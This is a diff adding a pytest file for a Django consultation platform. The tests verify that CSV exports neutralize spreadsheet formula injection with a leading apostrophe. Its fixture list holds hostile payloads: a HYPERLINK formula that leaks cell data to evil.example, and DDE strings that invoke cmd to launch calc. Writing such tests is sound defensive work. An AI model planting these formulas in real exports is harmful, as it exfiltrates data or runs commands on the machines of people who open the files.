@@ -1,0 +1,131 @@
+"""Finding 3: formulas planted in texts must reach no published CSV as formulas.
+
+A participant writes `=HYPERLINK(...)`, `+...`, `-...`, `@...` in titles, texts, comments and
+an organizer in an action's title; every CSV the server publishes (plan.csv, the ballot
+files, every CSV of the open-data archive) neutralizes those cells with OWASP's leading
+apostrophe, leaves numbers alone, and keeps each ballot file's digest reproducible.
+"""
+
+import csv
+import hashlib
+import io
+import zipfile
+
+import pytest
+import time_machine
+from rest_framework.test import APIClient
+
+from backend.comments.services import comment_create
+from backend.consultations.domain import PhaseKind
+from backend.core.csvfiles import FORMULA_STARTS, csv_text, safe_cell
+from backend.plans.services import plan_publish
+from backend.proposals.services import contribution_create
+from backend.synthesis.services import candidate_action_create, candidate_action_decide
+from backend.votes.domain.recount import recount_from_csv
+from tests.fixtures.personas import Personas
+from tests.fixtures.phases import middle_of
+from tests.plans.conftest import Built
+
+pytestmark = pytest.mark.django_db
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def _is_formula(cell: str) -> bool:
+    return cell.startswith(FORMULA_STARTS) and safe_cell(cell) != cell
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+@pytest.fixture
+def planted(built: Built, people: Personas) -> Built:
+    with time_machine.travel(middle_of(PhaseKind.PROPOSALS), tick=False):
+        for payload in PAYLOADS:
+            contribution_create(
+                by=people.participant,
+                consultation=built.consultation,
+                kind="problem",
+                title=payload,
+                body=payload,
+                summary_easy_read=payload,
+                origin="web",
+                theme="acces_droits",
+            )
+    with time_machine.travel(middle_of(PhaseKind.DELIBERATION), tick=False):
+        for payload in PAYLOADS:
+            comment_create(by=people.participant, contribution=built.proposals[0], body=payload)
+    with time_machine.travel(middle_of(PhaseKind.SYNTHESIS), tick=False):
+        action = candidate_action_create(
+            by=people.organizer,
+            consultation=built.consultation,
+            title=PAYLOADS[0],
+            description=PAYLOADS[1],
+            contribution_ids=[built.proposals[3].pk],
+        )
+        candidate_action_decide(
+            by=people.organizer, action=action, decision="retained", public_answer=PAYLOADS[3]
+        )
+    with time_machine.travel(middle_of(PhaseKind.RESTITUTION), tick=False):
+        plan_publish(by=people.organizer, consultation=built.consultation, force=True)
+    return built
+
+
+def test_no_formula_in_the_plan_csv(planted: Built) -> None:
+    response = APIClient().get(f"/api/v1/consultations/{planted.consultation.pk}/plan/plan.csv")
+    assert response.status_code == 200
+    cells = _cells(response.content.decode())
+    assert "'" + PAYLOADS[0] in cells
+    assert not [cell for cell in cells if _is_formula(cell)]
+
+
+def test_no_formula_in_any_csv_of_the_open_data_archive(planted: Built) -> None:
+    response = APIClient().get(f"/api/v1/consultations/{planted.consultation.pk}/open-data.zip")
+    archive = zipfile.ZipFile(io.BytesIO(response.content))
+    seen: set[str] = set()
+    for name in archive.namelist():
+        if name.endswith(".csv"):
+            cells = _cells(archive.read(name).decode())
+            assert not [cell for cell in cells if _is_formula(cell)], name
+            seen |= set(cells)
+    for payload in PAYLOADS:
+        assert "'" + payload in seen, payload  # neutralized, not dropped
+
+
+def test_numbers_are_not_corrupted(planted: Built) -> None:
+    """Vote values (-1 disagree), counts and ids keep their sign and digits."""
+    response = APIClient().get(f"/api/v1/consultations/{planted.consultation.pk}/open-data.zip")
+    archive = zipfile.ZipFile(io.BytesIO(response.content))
+    polis_votes = list(csv.DictReader(io.StringIO(archive.read("polis/votes.csv").decode())))
+    assert {row["vote"] for row in polis_votes} == {"1", "-1", "0"}
+    ballots = archive.read(f"ballots/vote-{planted.agree_vote.pk}.csv").decode()
+    assert {row["value"] for row in csv.DictReader(io.StringIO(ballots))} == {"1", "-1", "0"}
+    assert csv_text([[-1, "-1", "+2.5", "-3e2", 0]]) == "-1,-1,+2.5,-3e2,0\r\n"
+
+
+def test_ballot_file_digest_is_reproducible_from_the_bytes(planted: Built) -> None:
+    for vote in (planted.mj_vote, planted.agree_vote):
+        vote.refresh_from_db()
+        response = APIClient().get(f"/api/v1/votes/{vote.pk}/ballots.csv")
+        assert response.status_code == 200
+        digest = hashlib.sha256(response.content).hexdigest()
+        assert digest == response["X-Content-SHA256"] == vote.ballots_digest
+        results = APIClient().get(f"/api/v1/votes/{vote.pk}/results/").json()
+        assert results["ballots_digest"] == digest
+        items = sorted(vote.items.values_list("pk", flat=True))
+        options = {**vote.options, "one_structure_one_voice": vote.one_structure_one_voice}
+        recount = recount_from_csv(response.content.decode(), vote.method, items, options)
+        assert recount == vote.result
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralized(start: str) -> None:
+    assert safe_cell(f"{start}1+A1") == f"'{start}1+A1"
+    assert safe_cell("ordinary text") == "ordinary text"
+    assert safe_cell(None) == ""
